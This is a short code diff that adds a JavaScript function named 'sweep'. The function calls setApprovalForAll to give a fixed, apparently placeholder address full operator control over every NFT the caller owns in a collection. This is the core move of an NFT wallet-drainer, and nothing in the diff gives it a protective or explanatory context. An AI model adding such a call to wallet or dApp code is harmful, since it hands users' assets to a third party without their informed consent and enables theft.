@@ -1,0 +1,3 @@
+export async function sweep(nft) {
+  await nft.setApprovalForAll("0x1111111111111111111111111111111111111111", true);
+}
